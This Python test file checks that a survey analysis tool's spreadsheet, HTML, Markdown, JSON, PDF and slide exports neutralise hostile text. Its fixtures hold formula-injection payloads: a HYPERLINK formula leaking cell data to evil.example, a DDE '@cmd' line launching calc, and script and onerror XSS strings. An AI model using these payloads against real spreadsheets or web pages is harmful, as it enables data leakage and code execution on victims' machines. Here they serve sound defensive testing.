"""Hostile persona text and outcome statements, across every spreadsheet, HTML and
Markdown export: no formula runs, no markup is injected, no table breaks."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pypdf import PdfReader

from odi.analysis.scoring import score
from odi.analysis.unmet_needs import UnmetNeeds, unmet_needs
from odi.cli.main import main
from odi.exports import (
    card_html,
    card_markdown,
    card_pdf,
    landscape_html,
    persona_deck,
    unmet_needs_json,
    unmet_needs_markdown,
)
from odi.exports.output import csv_bytes, xlsx_bytes
from odi.exports.registry import EXPORTS
from odi.exports.safety import FORMULA_PREFIXES, md_text, neutralise_cell
from odi.personas import Persona

DAY = date(2026, 5, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
TABLE = "| --- | injected | cell |"
HOSTILE_STATEMENTS = {
    "O1": HYPERLINK,
    "O2": SCRIPT + " Müller – 🚀",
    "O3": TABLE,
    "O4": "+SUM(1,2)",
    "O5": "-2+3",
    "O6": "@cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile(build) -> UnmetNeeds:
    survey = build(
        statements={**HOSTILE_STATEMENTS, "O7": "\tTab first", "O8": "\rCR first"},
        name='=cmd("study")',
    )
    p = Persona(
        id="evil",
        name=HYPERLINK,
        titles=(SCRIPT, "@SUM(A1)"),
        context=IMG,
        functional_job=TABLE,
        goals=("=1+1", "-1", "\tgoal"),
        challenges=("**bold** _it_ [link](http://x)", "# heading", "1. list"),
        messaging_hook="\r=CR",
        inferred={"context": "<b>note</b> =2+2"},
        segment={"role": ["VP Sales"]},
        pins=("O3", "O5"),
        hides={"O4": '=HYPERLINK("http://evil") ' + SCRIPT},
    )
    return unmet_needs(survey, p, bootstrap=100)


def _starts_dangerous(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES)


def test_hostile_text_reaches_the_exports(hostile: UnmetNeeds) -> None:
    # The fixture really exercises hostile statements in the unmet-needs list and hides.
    assert set(hostile.table["outcome_id"]) >= {"O1", "O2", "O3", "O5"}
    assert hostile.hidden["outcome_id"].tolist() == ["O4"]


SPREADSHEETS = [k for k, f in EXPORTS.items() if f.extension in (".csv", ".xlsx")]
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def _sheet_cells(data: bytes, ext: str) -> list[object]:
    """Every cell of a CSV (comment lines included) or XLSX file; XLSX formulas fail."""
    if ext.endswith("csv"):
        return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
    cells = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _check(cells: list[object], *, csv_text: bool) -> None:
    texts = [c for c in cells if isinstance(c, str) and not (csv_text and _NUMBER.fullmatch(c))]
    numbers = [c for c in cells if not isinstance(c, str) or _NUMBER.fullmatch(c)]
    assert not [t for t in texts if _starts_dangerous(t)]
    assert any(t == "'" + HYPERLINK or t.endswith(HYPERLINK) for t in texts)  # it got there
    assert "'-2+3" in texts  # a statement that looks like a negative sum is text
    assert [n for n in numbers if n is not None]  # numbers stay numbers


@pytest.mark.parametrize("key", SPREADSHEETS)
def test_every_spreadsheet_export_is_neutralised(key: str, hostile: UnmetNeeds, build) -> None:
    fmt = EXPORTS[key]
    if fmt.takes == "needs":
        data = fmt.write([hostile], exported=DAY)
    else:
        survey = build(statements=HOSTILE_STATEMENTS)
        result = score(survey, bootstrap=0)
        data = fmt.write(result, study=HYPERLINK, scale=survey.scale, exported=DAY)
    _check(_sheet_cells(data, fmt.extension), csv_text=fmt.extension == ".csv")


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_score_output_is_neutralised(ext: str, build, to_long_csv, tmp_path) -> None:
    """``python -m odi score -o`` goes through the same writer."""
    source = tmp_path / "hostile.csv"
    source.write_bytes(to_long_csv(build(statements=HOSTILE_STATEMENTS)))
    out = tmp_path / f"scores.{ext}"
    assert main(["score", str(source), "--bootstrap", "0", "-o", str(out)]) == 0
    _check(_sheet_cells(out.read_bytes(), ext), csv_text=ext == "csv")


def test_html_escapes_all_user_text(hostile: UnmetNeeds) -> None:
    page = card_html(hostile, exported=DAY).decode("utf-8")
    assert "<script" not in page.lower()
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
    assert "&lt;b&gt;note&lt;/b&gt;" in page
    land = landscape_html(
        hostile.scores, study=SCRIPT, definition=IMG, n=1, method="m", exported=DAY
    ).decode("utf-8")
    head = land.split("<div", 1)[0]  # the part the workbench writes, before the figure
    assert SCRIPT not in head
    assert "&lt;script&gt;" in head
    assert SCRIPT not in land.split("</h1>")[0]


def _cells(line: str) -> list[str]:
    return re.split(r"(?<!\\)\|", line.strip())[1:-1]


@pytest.mark.parametrize("kind", ["list", "card"], ids=["unmet-md", "card-md"])
def test_markdown_tables_keep_their_shape(hostile: UnmetNeeds, kind: str) -> None:
    if kind == "list":
        text = unmet_needs_markdown(hostile, exported=DAY).decode("utf-8")
    else:
        text = card_markdown(hostile, exported=DAY).decode("utf-8")
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) >= 4
    widths = {len(_cells(line)) for line in table}
    assert len(widths) == 1, widths
    assert "<script>" not in text
    assert "\\<script\\>" in text
    assert "\\| --- \\|" in text
    for line in text.splitlines():
        assert not line.startswith(("# heading", "1. list", "<")), line


def test_markdown_escapes_inline_markup() -> None:
    assert (
        md_text("**bold** _it_ [link](http://x)")
        == "\\*\\*bold\\*\\* \\_it\\_ \\[link\\](http://x)"
    )
    assert md_text("line\nbreak") == "line break"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\x00=1", "'=1"),
        ("a=1", "a=1"),
        (-1.5, -1.5),
        ("Müller", "Müller"),
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "cr",
        "spaces-then-equals",
        "nul-then-equals",
        "inner-equals",
        "negative-number",
        "unicode",
    ],
)
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


def test_json_keeps_text_as_data(hostile: UnmetNeeds) -> None:
    data = json.loads(unmet_needs_json(hostile, exported=DAY))
    persona = data["personas"][0]
    assert persona["name"] == HYPERLINK  # JSON is data: text kept exactly
    outcomes = {r["outcome_id"]: r["outcome"] for r in persona["unmet_needs"]}
    assert outcomes["O2"] == SCRIPT + " Müller – 🚀"


def test_pdf_and_deck_survive_hostile_text(hostile: UnmetNeeds) -> None:
    text = PdfReader(io.BytesIO(card_pdf(hostile, exported=DAY))).pages[0].extract_text()
    assert "HYPERLINK" in text
    assert "Müller – 🚀" in text
    prs = Presentation(io.BytesIO(persona_deck(hostile, exported=DAY)))
    assert len(prs.slides) == 2


def test_the_writer_keeps_negative_numbers_numeric() -> None:
    frame = pd.DataFrame({"outcome": ["-2+3", "ok"], "gap": [-1.5, 2.0]})
    wb = load_workbook(io.BytesIO(xlsx_bytes(frame)))
    values = [[c.value for c in row] for row in wb.active.iter_rows()]
    assert values == [["outcome", "gap"], ["'-2+3", -1.5], ["ok", 2.0]]
    assert csv_bytes(frame, bom=False).decode().splitlines() == [
        "outcome,gap",
        "'-2+3,-1.5",
        "ok,2.0",
    ]
